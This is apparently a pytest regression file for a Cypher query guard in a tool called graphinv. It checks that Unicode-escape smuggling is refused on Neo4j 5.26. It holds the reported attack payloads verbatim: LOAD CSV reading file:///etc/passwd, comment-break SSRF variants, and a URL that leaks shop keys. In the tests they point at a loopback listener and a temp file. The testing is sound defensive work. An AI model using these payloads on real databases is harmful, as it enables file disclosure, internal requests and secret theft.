"""Issue #16 item 1: ``\\uXXXX`` escapes cannot smuggle code past the query guard.

Neo4j 5.26 decodes Unicode escapes in the whole text before it tokenizes, so
``'\\u0027 … LOAD CSV … //'`` was "one string literal" to the guard and a LOAD CSV
to the server: it read /etc/passwd, fetched internal URLs and leaked shop keys.
These tests run the reported payloads against a real Neo4j with a loopback HTTP
listener and a temp file, and check the plan check on its own (lexical guard off).
"""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from graphinv.cli.app import app
from graphinv.errors import QueryRefused
from graphinv.querylib import parse_query_text, run_query
from graphinv.querylib import runner as runner_mod
from graphinv.querylib.guard import CheckedQuery, check_query
from graphinv.querylib.lexer import check_escapes, decode_escapes, tokenize, unicode_escapes
from graphinv.querylib.plancheck import check_plan
from graphinv.store import Store
from graphinv.store.base import PlanOperator, QueryPlan
from tests.query_fixture import build_query_fixture

# The payload of the issue, verbatim (raw string: the backslashes are in the query text).
PASSWD = (r"WITH '\u0027 AS x LOAD CSV FROM \u0027file:///etc/passwd\u0027 AS l RETURN l //'"
          r" AS x RETURN x")


def _payloads(url: str, csv_url: str) -> dict[str, str]:
    """The reported variants, aimed at the test's own listener and temp file."""
    return {
        "string": (rf"WITH '\u0027 AS x LOAD CSV FROM \u0027{csv_url}\u0027 AS l RETURN l //'"
                   r" AS x RETURN x"),
        "line-comment": (rf"RETURN ['a'] AS l // \u000a UNION LOAD CSV FROM '{csv_url}' AS l "
                         "RETURN l"),
        "block-comment": (rf"RETURN ['a'] AS l /* \u002a/ UNION LOAD CSV FROM '{url}/ssrf' AS l "
                          "RETURN l /* */"),
        "leak": (rf"MATCH (s:Shop) WITH s, '\u0027 AS x LOAD CSV FROM \u0027{url}/leak?shop="
                 r"\u0027 + s.key AS l RETURN s.key AS k //' AS y RETURN s.key AS k"),
    }


class _Listener(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - the http.server API
        type(self).hits.append(self.path)
        body = b"leaked\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        return None


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A loopback HTTP server; the list collects every path requested."""
    hits: list[str] = []
    handler = type("Handler", (_Listener,), {"hits": hits})
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    th = threading.Thread(target=srv.serve_forever, daemon=True)
    th.start()
    try:
        yield f"http://127.0.0.1:{srv.server_address[1]}", hits
    finally:
        srv.shutdown()
        srv.server_close()


@pytest.fixture
def secret(tmp_path: Path) -> str:
    """A temp file a LOAD CSV could read: its file:// URL."""
    path = tmp_path / "secret.csv"
    path.write_text("TOPSECRET-4711\n", encoding="utf-8")
    return path.as_uri()


def _saved(body: str) -> Any:
    return parse_query_text("// name: shared\n// description: from a colleague\n" + body,
                            "shared.cypher")


# -- the lexer reads escapes as Neo4j 5.26 does (table from experiments on the server) --------

@pytest.mark.parametrize(("text", "decoded"), [
    (r"'\u0041'", "'A'"),
    (r"'\\u0041'", r"'\\u0041'"),            # an escaped backslash, then u0041
    (r"'\\\u0041'", r"'\\A'"),               # three: the last starts an escape
    (r"'\u005cu0041'", r"'\u0041'"),         # a decoded backslash starts no escape
    (r"'\U0041'", r"'\U0041'"),              # only a lower-case u
    (r"'\ud83d\ude00'", "'\ud83d\ude00'"),
    (r"x // \u000a y", "x // \n y"),         # decoded in comments too
    (r"1 AS \u0078", "1 AS x"),              # and in names
])
def test_escapes_decode_like_neo4j(text: str, decoded: str) -> None:
    assert decode_escapes(text) == decoded


@pytest.mark.parametrize("text", [r"'\uu0041'", r"'\u00zz'", r"'\u004'", r"// C:\users"])
def test_malformed_escapes_are_refused_as_neo4j_refuses_them(text: str) -> None:
    with pytest.raises(QueryRefused, match="Unicode escape"):
        unicode_escapes(text)


@pytest.mark.parametrize(("body", "why"), [
    (PASSWD, "spells a quote"),
    (r"RETURN 1 AS x // \u000a UNION LOAD CSV FROM 'f' AS l RETURN l", "spells a quote|line"),
    (r"RETURN 1 AS x /* \u002a/ UNION LOAD CSV FROM 'f' AS l RETURN l /* */", "comment mark"),
    (r"RETURN 'a\u005c' + 1 AS x", "backslash"),
    (r"RETURN 1 AS `a\u0060 b`", "backtick"),
    (r"MATCH (n) \u0044ETACH DELETE n", "only inside string"),
    (r"RETURN 1 AS x // caf\u00e9", "only inside string"),
    (r"RETURN \u0024p AS x", "only inside string"),
])
def test_guard_refuses_escapes_that_read_two_ways(body: str, why: str) -> None:
    with pytest.raises(QueryRefused, match=why):
        check_query(body)


def test_harmless_escapes_in_strings_still_pass() -> None:
    q = r"MATCH (s:Shop) WHERE s.name = 'caf\u00e9 \\u0027' RETURN s.key AS k"
    assert check_query(q).cypher == q
    assert [t.kind for t in check_escapes(q) if t.kind == "string"] == ["string"]


def _cypher_string(literal: str) -> str:
    """The value of a Cypher string literal whose Unicode escapes are already decoded:
    ``\\`` and ``\'`` unescaped, other backslash pairs kept (as Neo4j 5.26 does)."""
    out, i, body = [], 0, literal[1:-1]
    while i < len(body):
        if body[i] == "\\" and i + 1 < len(body) and body[i + 1] in "\\'\"":
            out.append(body[i + 1])
            i += 2
        else:
            out.append(body[i])
            i += 1
    return "".join(out).encode("utf-16", "surrogatepass").decode("utf-16")


@pytest.mark.neo4j
@pytest.mark.parametrize("literal", [
    r"'\u0041\u00e9'", r"'\\u0041'", r"'\\\u0041'", r"'\\\\u0041'", r"'\u005cu0041'",
    r"'x\u005c\u0027'", r"'\ud83d\ude00'", r"'a\qb'", r"'\U0041'",
])
def test_decoded_strings_are_what_neo4j_returns(neo4j_store: Store, literal: str) -> None:
    """The decoding above is the server's: a literal's value as Neo4j returns it equals
    what :func:`decode_escapes` plus ordinary string escapes give."""
    got = neo4j_store.run_read(f"RETURN {literal} AS x").rows[0][0]
    assert got == _cypher_string(decode_escapes(literal))


@pytest.mark.neo4j
@pytest.mark.parametrize("query", [
    r"RETURN 1 AS x // \u000a, 2 AS y",
    r"RETURN 1 AS x /* \u002a/ , 2 AS y /* */",
    r"RETURN 1 AS x // \\u000a, 2 AS y",
    r"RETURN 1 AS x // \\\u000a, 2 AS y",
    r"RETURN 1 AS x\u002c 2 AS \u0079",
    "RETURN 1 AS x // a\u2028, 2 AS y",
])
def test_decoded_text_splits_into_the_columns_neo4j_returns(neo4j_store: Store,
                                                            query: str) -> None:
    """Comments and names too: the columns Neo4j returns are the ``AS`` names this
    lexer finds in the decoded text (where they differ, the lexer shows *more* code)."""
    sig = [t for t in tokenize(decode_escapes(query)) if t.kind not in ("ws", "comment")]
    ours = [sig[i + 1].text for i, t in enumerate(sig) if t.is_kw("AS")]
    theirs = neo4j_store.run_read(query).columns
    if "\u2028" in query:  # the lexer ends a // comment at U+2028, Neo4j does not
        assert ours == ["x", "y"] and theirs == ["x"]
    else:
        assert ours == theirs


# -- the reported attack on a real Neo4j: refused, nothing fetched, nothing read --------------

@pytest.mark.neo4j
@pytest.mark.parametrize("variant", ["string", "line-comment", "block-comment", "leak"])
def test_escape_payloads_are_refused_and_fetch_nothing_on_neo4j(
        neo4j_store: Store, listener: tuple[str, list[str]], secret: str,
        variant: str) -> None:
    build_query_fixture(neo4j_store)
    url, hits = listener
    with pytest.raises(QueryRefused):
        run_query(neo4j_store, _saved(_payloads(url, secret)[variant]), {})
    assert hits == []


@pytest.mark.neo4j
def test_the_exact_issue_payload_is_refused_by_the_cli(neo4j_uri: str, tmp_path: Path) -> None:
    path = tmp_path / "shared.cypher"
    path.write_text(PASSWD + "\n", encoding="utf-8")
    res = CliRunner().invoke(app, ["--store", neo4j_uri, "--data-dir", str(tmp_path / "d"),
                                   "query", "run", "--file", str(path)])
    assert res.exit_code == 1, res.output
    assert "refused" in res.stderr and "\\u0027" in res.stderr
    assert "root:" not in res.stdout


# -- the plan check alone stops the same attacks (the lexical guard switched off) -------------

def _no_guard(cypher: str) -> CheckedQuery:
    try:
        return check_query(cypher)
    except QueryRefused:
        return CheckedQuery(cypher=cypher.rstrip().rstrip(";"), params=frozenset())


@pytest.mark.neo4j
@pytest.mark.parametrize("variant", ["string", "line-comment", "block-comment", "leak"])
def test_plan_check_alone_refuses_load_csv_on_neo4j(
        neo4j_store: Store, listener: tuple[str, list[str]], secret: str, variant: str,
        monkeypatch: pytest.MonkeyPatch) -> None:
    build_query_fixture(neo4j_store)
    monkeypatch.setattr(runner_mod, "check_query", _no_guard)
    url, hits = listener
    with pytest.raises(QueryRefused, match="loads a file or URL — LoadCSV"):
        run_query(neo4j_store, _saved(_payloads(url, secret)[variant]), {})
    assert hits == []


@pytest.mark.neo4j
def test_plan_check_refuses_procedures_outside_the_allowlist_on_neo4j(
        neo4j_store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(runner_mod, "check_query", _no_guard)
    with pytest.raises(QueryRefused, match="procedure outside the allowlist — db.info"):
        run_query(neo4j_store, _saved("CALL db.info() YIELD name RETURN name"), {})
    res = run_query(neo4j_store, _saved("CALL db.labels() YIELD label RETURN label"), {})
    assert res.columns == ["label"]


def test_plan_check_alone_refuses_load_from_on_embedded(
        embedded_store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "secret.csv"
    path.write_text("k\nTOPSECRET-4711\n", encoding="utf-8")
    monkeypatch.setattr(runner_mod, "check_query", _no_guard)
    with pytest.raises(QueryRefused, match="table function outside the allowlist — READ_CSV"):
        run_query(embedded_store, _saved(f"LOAD FROM '{path}' RETURN *"), {})


@pytest.mark.parametrize(("op", "match"), [
    (PlanOperator("LoadCSV", "l"), "loads a file"),
    (PlanOperator("ProcedureCall", "apoc.help($x) :: (name :: STRING)"), "apoc.help"),
    (PlanOperator("Projection", "apoc.text.join(l, $s) AS x"), r"apoc.text.join\(\)"),
    (PlanOperator("TransactionApply", "IN TRANSACTIONS OF 1000 ROWS"), "writes or commits"),
    (PlanOperator("SetProperty", "n.x = 1"), "writes or commits"),
    (PlanOperator("TABLE_FUNCTION_CALL", "READ_CSV"), "READ_CSV"),
    (PlanOperator("TABLE_FUNCTION_CALL", ""), "table function"),
])
def test_plan_check_rules(op: PlanOperator, match: str) -> None:
    with pytest.raises(QueryRefused, match=match):
        check_plan(QueryPlan(read_only=True, operators=[PlanOperator("ProduceResults"), op]))


def test_plan_check_passes_reads_and_allowed_calls() -> None:
    check_plan(QueryPlan(read_only=True, operators=[
        PlanOperator("Projection", "date.truncate($autostring_0, date()) AS `apoc.x(`"),
        PlanOperator("ProcedureCall", "db.labels() :: (label :: STRING)"),
        PlanOperator("TABLE_FUNCTION_CALL", "READ_FTABLE"),
    ]))
    with pytest.raises(QueryRefused, match="planner says it writes"):
        check_plan(QueryPlan(read_only=False))
